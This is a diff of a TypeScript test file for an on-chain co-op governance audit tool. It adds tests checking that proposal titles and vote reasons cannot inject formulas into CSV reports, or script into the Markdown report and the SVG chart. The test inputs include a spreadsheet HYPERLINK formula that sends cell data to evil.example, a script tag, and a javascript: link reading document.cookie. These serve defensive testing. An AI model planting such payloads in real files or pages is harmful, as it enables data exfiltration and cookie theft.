@@ -10,15 +10,18 @@ import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 
 import { expect } from "chai";
+import { parse } from "csv-parse/sync";
 import { AbiCoder, keccak256, toBeHex, zeroPadValue } from "ethers";
 import { network } from "hardhat";
+import { JSDOM } from "jsdom";
+import { micromark } from "micromark";
 
 import type { Deployment } from "../../lib/deployment.ts";
 import { IncompleteHistoryError } from "../../lib/replay/stream.ts";
 import { proposalTitle } from "../../lib/replay/view.ts";
 import { voteCost } from "../../lib/quadratic.ts";
 import { fetchLogChunks, type LogChunk } from "../../scripts/lib/audit/fetch-logs.ts";
-import { REPORT_FILES } from "../../scripts/lib/audit/report.ts";
+import { REPORT_FILES, chartSvg } from "../../scripts/lib/audit/report.ts";
 import {
   AuditInputError,
   loadCoopAbis,
@@ -204,20 +207,31 @@ describe("Audit of the seeded demo co-op", function () {
     const model = JSON.parse(await readFile(join(out, "model.json"), "utf8"));
     expect(model.ok).to.equal(true);
     expect(model.model.proposals).to.have.length(bakery.proposals.length);
-    const votes = (await readFile(join(out, "votes.csv"), "utf8")).trim().split("\n");
+    const csv = async (file: string) => parse(await readFile(join(out, file), "utf8")) as string[][];
+    const votes = await csv("votes.csv");
     const castVotes = bakery.proposals.reduce((n, p) => n + p.votes.length, 0);
     expect(votes).to.have.length(castVotes + 1);
-    const ledger = await readFile(join(out, "credit-ledger.csv"), "utf8");
-    expect(ledger.split("\n")[0]).to.equal("block,time,transaction,member,kind,change,balance,epoch,proposal");
+    const ledger = await csv("credit-ledger.csv");
+    expect(ledger[0]).to.deep.equal([
+      "block",
+      "time",
+      "transaction",
+      "member",
+      "kind",
+      "change",
+      "balance",
+      "epoch",
+      "proposal",
+    ]);
     // Patronage: every entry, and every contributor's share of the pot with what they claimed.
-    const contributions = (await readFile(join(out, "contributions.csv"), "utf8")).trim().split("\n");
+    const contributions = await csv("contributions.csv");
     expect(contributions).to.have.length(model.model.patronage.entries.length + 1);
-    expect(contributions[1]).to.match(
-      /^1,0,\d+,0x[0-9a-fA-F]{40},maintenance,10,0x[0-9a-f]{64},ipfs:\/\/hearth\/oven-repair,1,1,#\d+,validated,,/,
+    expect(contributions[1].slice(0, 13).join(",")).to.match(
+      /^1,0,\d+,0x[0-9a-fA-F]{40},maintenance,10,0x[0-9a-f]{64},ipfs:\/\/hearth\/oven-repair,1,1,#\d+,validated,$/,
     );
-    const payouts = (await readFile(join(out, "payouts.csv"), "utf8")).trim().split("\n");
-    expect(payouts[0]).to.equal("pot,period,token,kind,card,account,units,share,paid,block,transaction");
-    expect(payouts.slice(1).map((row) => row.split(",")[8])).to.have.members([
+    const payouts = await csv("payouts.csv");
+    expect(payouts[0].join(",")).to.equal("pot,period,token,kind,card,account,units,share,paid,block,transaction");
+    expect(payouts.slice(1).map((row) => row[8])).to.have.members([
       "52631578947368421",
       "0",
       "210526315789473684",
@@ -226,14 +240,14 @@ describe("Audit of the seeded demo co-op", function () {
     ]);
     expect(markdown).to.include("## Contribution periods").and.include("## Pots and payouts");
     // Every event in chain order, each naming its proposal and member where it has one.
-    const events = (await readFile(join(out, "events.csv"), "utf8")).trim().split("\n");
-    expect(events[0]).to.equal("block,log,time,transaction,contract,event,proposal,member");
+    const events = await csv("events.csv");
+    expect(events[0].join(",")).to.equal("block,log,time,transaction,contract,event,proposal,member");
     expect(events).to.have.length(model.model.events + 1);
-    const voteRows = events.filter((row) => /,MutualGovernor,VoteCast(WithParams)?,/.test(row));
+    const voteRows = events.filter((row) => row[4] === "MutualGovernor" && /^VoteCast(WithParams)?$/.test(row[5]));
     expect(voteRows).to.have.length(castVotes);
     // The same votes as votes.csv, in the same order: transaction, proposal and voter.
-    expect(voteRows.map((row) => row.split(",").filter((_, i) => i === 3 || i === 6 || i === 7))).to.deep.equal(
-      votes.slice(1).map((row) => row.split(",").filter((_, i) => i === 2 || i === 3 || i === 4)),
+    expect(voteRows.map((row) => [row[3], row[6], row[7]])).to.deep.equal(
+      votes.slice(1).map((row) => [row[2], row[3], row[4]]),
     );
   });
 });
@@ -392,6 +406,89 @@ describe("Audit: patronage state rewritten behind the contracts' back is reporte
         },
       ]);
     });
+  });
+});
+
+describe("Audit: hostile text in proposals and votes cannot act in the report", function () {
+  // A member's words reach the report through real governance: a proposal's title, and the reasons given with votes.
+  const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open") | <script>alert(1)</script> [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)`;
+  const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
+  const ordinary = ['Fine by me, with "quotes"', "a-b=c; 2+2 @ noon"];
+
+  it("writes every prefix (= + - @ tab CR) in the CSV with a leading quote, every field quoted, and ordinary values as they were", async function () {
+    await tampered(async () => {
+      const voters = bakery.members.slice(0, formulas.length + ordinary.length);
+      const signer = (m: (typeof voters)[number]) => ethers.getSigner(hardhatAccount(m.account));
+      const targets = [deployment.contracts.TimelockController];
+      const description = `# ${title}\n\nA proposal whose title and votes carry formulas and markup.`;
+      const governor = coop.governor.connect(await signer(voters[0]));
+      await (await governor.propose(targets, [0n], ["0x"], description)).wait();
+      const id = await coop.governor.hashProposal(targets, [0n], ["0x"], ethers.id(description));
+      await connection.networkHelpers.time.increaseTo((await coop.governor.proposalSnapshot(id)) + 1n);
+      const reasons = [...formulas, ...ordinary];
+      for (const [i, reason] of reasons.entries()) {
+        await (await coop.governor.connect(await signer(voters[i])).castVoteWithReason(id, 1, reason)).wait();
+      }
+      const out = join(work, "hostile");
+      const { code, stdout } = await auditInto(out);
+      expect(code, stdout).to.equal(0);
+
+      const proposals = parse(await readFile(join(out, "proposals.csv"), "utf8"), { columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(proposals.find((p) => p.id === `${id}`)!.title).to.equal(`'${title}`);
+      const votesText = await readFile(join(out, "votes.csv"), "utf8");
+      const votes = parse(votesText, { columns: true }) as Record<string, string>[];
+      const given = votes.filter((v) => v.proposal === `${id}`).map((v) => v.reason);
+      expect(given).to.deep.equal([...formulas.map((f) => `'${f}`), ...ordinary]);
+      // Every field of every row is quoted, and no cell of any file starts a formula.
+      for (const line of votesText.trimEnd().split(/\n(?=")/))
+        expect(line).to.match(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/s);
+      for (const file of REPORT_FILES.filter((f) => f.endsWith(".csv"))) {
+        const rows = parse(await readFile(join(out, file), "utf8")) as string[][];
+        for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?!\d+$)/.test(cell), `${file}: ${cell}`).to.equal(false);
+      }
+      // The audit's own numbers are left alone: a vote's credit change is negative, unquoted inside its quotes.
+      const ledger = parse(await readFile(join(out, "credit-ledger.csv"), "utf8"), { columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(ledger.filter((c) => c.kind === "vote").map((c) => c.change)).to.include("-1");
+      expect(votes.find((v) => v.proposal === `${id}`)!.block).to.match(/^\d+$/);
+    });
+  });
+
+  it("escapes the title in report.md: one table row of eight cells, no script, link or image even for a renderer that allows HTML", async function () {
+    await tampered(async () => {
+      const proposer = await ethers.getSigner(hardhatAccount(bakery.members[0].account));
+      const targets = [deployment.contracts.TimelockController];
+      const description = `# ${title}\n\nbody`;
+      await (await coop.governor.connect(proposer).propose(targets, [0n], ["0x"], description)).wait();
+      const out = join(work, "hostile-md");
+      const { code, stdout } = await auditInto(out);
+      expect(code, stdout).to.equal(0);
+      const markdown = await readFile(join(out, "report.md"), "utf8");
+      const row = markdown.split("\n").find((line) => line.includes("HYPERLINK"))!;
+      // Cells are split by unescaped bars only: | # | Title | State | For | Against | Voters | Quorum | Deposit |
+      expect(row.split(/(?<!\\)\|/)).to.have.length(10);
+      const html = micromark(row, { allowDangerousHtml: true, allowDangerousProtocol: true });
+      expect(html).not.to.match(/<script|<img|<a\b/i);
+      expect(html).to.include(
+        "=HYPERLINK(&quot;https://evil.example/?d=&quot;&amp;A1,&quot;Open&quot;) | &lt;script&gt;alert(1)&lt;/script&gt; [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)",
+      );
+    });
+  });
+
+  it("escapes what the chart embeds as XML: a state holding & < > \" ' leaves chart.svg well-formed and reads back as written", async function () {
+    const { view } = await audit();
+    const hostile = `Active</text><script>alert("1")</script><text a='b'>&amp;`;
+    const svg = chartSvg({ ...view, proposals: view.proposals.map((p) => ({ ...p, state: hostile as never })) });
+    const doc = new new JSDOM().window.DOMParser().parseFromString(svg, "image/svg+xml");
+    expect(doc.getElementsByTagName("parsererror")).to.have.length(0);
+    expect(doc.getElementsByTagName("script")).to.have.length(0);
+    const states = [...doc.getElementsByTagName("text")].filter((t) => t.textContent === hostile);
+    expect(states).to.have.length(view.proposals.length);
   });
 });
 
